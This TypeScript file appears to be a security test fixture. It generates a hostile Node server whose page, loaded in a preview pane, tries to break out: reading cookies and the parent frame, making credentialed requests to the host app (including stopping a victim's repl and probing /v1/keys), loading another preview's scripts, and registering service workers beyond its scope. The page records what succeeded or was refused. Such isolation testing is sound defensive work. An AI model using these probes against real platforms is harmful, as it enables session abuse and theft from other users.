// A page that a stranger's program serves, and what it tries from inside the preview pane; it writes what came of it into itself.

export type Prey = {
  /** Origin of the app, the victim's repl, and the origin of the victim's preview. */
  app: string
  repl: string
  preview: string
}

/** The program: node, listening on `port`. */
export function evilProgram(port: number, prey: Prey): string {
  const page = `<!doctype html><title>evil</title><pre id="out"></pre><script>(${attack.toString()})(${JSON.stringify(prey)})</script>`
  return `require('http').createServer((req, res) => {
  res.setHeader('set-cookie', ['devex=planted; Path=/', 'mine=1; Path=/'])
  if (req.url === '/seen') return res.end(JSON.stringify(seen))
  seen.push({ url: req.url, cookie: req.headers.cookie ?? '' })
  if (req.url === '/sw.js') return res.setHeader('content-type', 'text/javascript').end('')
  if (req.url !== '/') return res.writeHead(404).end('evil has no ' + req.url)
  res.setHeader('content-type', 'text/html').end(${JSON.stringify(page)})
}).listen(${port})
const seen = []
`
}

/** Runs inside the page; each entry is what the page got, or how it was refused. */
async function attack(prey: Prey): Promise<void> {
  const found: Record<string, string> = {}
  const attempt = async (name: string, what: () => unknown): Promise<void> => {
    try {
      found[name] = String(await what())
    } catch (fault) {
      found[name] = `refused: ${fault instanceof Error ? fault.name : String(fault)}`
    }
  }
  const read = (url: string, init: RequestInit = {}): Promise<string> =>
    fetch(url, { credentials: 'include', ...init }).then(
      async (answer) => `${answer.status} ${await answer.text()}`,
    )
  const loads = (element: HTMLScriptElement | HTMLImageElement, url: string): Promise<string> =>
    new Promise((done) => {
      element.addEventListener('load', () => done('loaded'))
      element.addEventListener('error', () => done('refused'))
      element.src = url
      document.head.append(element)
    })
  const frame = (url: string): void => {
    const made = document.createElement('iframe')
    made.src = url
    document.body.append(made)
  }
  await attempt('cookies', () => document.cookie)
  await attempt('parent', () => window.parent.document.title)
  await attempt('steer', () => {
    window.top!.location.href = 'about:blank'
    return 'tried'
  })
  await attempt('app read', () => read(`${prey.app}/repls`))
  await attempt('app doors', () => read(`${prey.app}/repl/${prey.repl}/doors`, { method: 'POST' }))
  await attempt('app stop', () =>
    fetch(`${prey.app}/repl/${prey.repl}/stop`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
    }).then(() => 'sent'),
  )
  for (const path of ['/repls', `/r/${prey.repl}/prove?nonce=${'a'.repeat(20)}`, '/v1/keys', '/collab/x'])
    await attempt(`here ${path.split('/')[1]}`, () => read(path))
  await attempt('other read', () => read(`${prey.preview}/words.js`))
  await attempt('other script', () => loads(document.createElement('script'), `${prey.preview}/words.js`))
  await attempt(
    'other socket',
    () =>
      new Promise((done) => {
        const socket = new WebSocket(`${prey.preview.replace('http', 'ws')}/`, 'vite-hmr')
        socket.addEventListener('open', () => done('open'))
        socket.addEventListener('error', () => done('refused'))
      }),
  )
  await attempt('worker of the app', () => navigator.serviceWorker.register(`${prey.app}/sw.js`))
  await attempt('worker beyond', () => navigator.serviceWorker.register('/sw.js', { scope: `${prey.app}/` }))
  frame(`${prey.app}/`)
  frame(`${prey.preview}/`)
  document.querySelector('#out')!.textContent = JSON.stringify(found)
}
